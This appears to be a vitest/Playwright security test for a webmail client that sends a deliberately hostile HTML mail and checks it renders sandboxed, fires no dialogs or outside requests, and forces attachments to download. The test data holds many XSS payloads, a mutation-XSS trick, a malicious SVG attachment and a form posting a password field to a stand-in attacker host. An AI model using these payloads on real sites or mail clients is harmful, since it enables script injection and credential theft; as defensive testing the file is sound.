import { expect, test } from 'vitest'
import { sendMail } from '../server/test/mail/send-mail.ts'
import { useDesk } from './desk.ts'

const desk = useDesk()

const html = `
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css"><style>@import url(https://evil.example/import.css);
body { background: url(https://evil.example/background.png) } * { position: fixed; inset: 0 }</style></head>
<body onload="alert('onload')" background="https://evil.example/table.png">
<p>Dear team, this is a friendly mail.</p>
<script>alert('script'); top.document.title = 'owned'</script>
<img src="https://evil.example/pixel.gif" onerror="alert('onerror')"><img src=x onerror=alert(1)>
<svg onload="alert('svg')"><script>alert('svg script')</script><image href="https://evil.example/svg.png"></image></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed"><video src="https://evil.example/video" autoplay></video>
<form action="https://evil.example/form" method="post"><input name="password"><button>Press me</button></form>
<a href="javascript:alert('link')">Open the invoice</a> <a href="https://evil.example/visit">Visit</a>
<a href="data:text/html,<script>alert(1)</script>">Data</a>
<div style="position:fixed;inset:0;background:url('https://evil.example/fixed.png')">over</div>
<math><mtext></p><style><img src=x onerror=alert('mutation')></style></mtext></math>
</body></html>`

test('a hostile mail shows its words and does nothing: no dialog, no request, no way out of its frame', async () => {
  const page = await desk.open('/inbox')
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await sendMail(desk.server.smtpPort, {
    from: '"<script>alert(1)</script>" <evil@evil.example>',
    subject: '<img src=x onerror=alert("subject")> Hello',
    text: 'Dear team, this is a friendly mail.',
    html,
    attachments: [
      { filename: '<svg onload=alert(1)>.svg', content: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' },
    ],
  })
  await page.getByRole('link', { name: /Hello/ }).click()
  const frame = page.frameLocator('iframe').first()
  await frame.getByText('Dear team, this is a friendly mail.').waitFor()

  const element = page.locator('iframe').first()
  const sandbox = (await element.getAttribute('sandbox')) ?? ''
  expect(sandbox.split(' ')).not.toContain('allow-scripts')
  expect(sandbox).not.toContain('allow-top-navigation')
  expect(sandbox).not.toContain('allow-forms')

  // Whatever is left of it to click is clicked.
  for (const name of ['Open the invoice', 'Data', 'Press me']) {
    const thing = frame.getByText(name).first()
    if ((await thing.count()) > 0) await thing.click({ force: true, timeout: 2000 }).catch(() => undefined)
  }
  await page.getByText(/remote pictures? or files? (was|were) not fetched/).waitFor()
  await page.getByRole('button', { name: 'Which?' }).click()
  await page.getByText('https://evil.example/pixel.gif').waitFor()

  expect(dialogs).toEqual([])
  expect(await page.title()).not.toContain('owned')
  expect(page.url()).toContain(desk.server.url)
  expect(desk.strayRequests).toEqual([])
})

test('an attachment that could run is only ever downloaded', async () => {
  const page = await desk.open('/inbox')
  await page.getByRole('link', { name: /Hello/ }).click()
  const file = page.getByRole('link', { name: /^Download/ })
  await file.waitFor()
  const response = await page.request.get(desk.server.url + ((await file.getAttribute('href')) ?? ''))
  expect(response.headers()['content-disposition']).toContain('attachment')
  expect(response.headers()['x-content-type-options']).toBe('nosniff')
})
